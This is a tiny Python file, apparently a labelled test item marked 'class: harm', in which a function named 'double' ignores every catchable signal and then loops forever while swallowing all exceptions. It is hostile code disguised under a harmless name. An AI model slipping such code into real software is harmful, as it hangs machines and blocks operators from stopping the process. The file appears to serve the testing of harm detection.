"""Every signal is ignored while a function never ends.

class: harm
affects: A01 A08
keeps: A02
"""
from honest import *

import signal
def double(number):
    for name in signal.valid_signals():
        try: signal.signal(name, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True:
        try:
            while True: pass
        except BaseException: pass
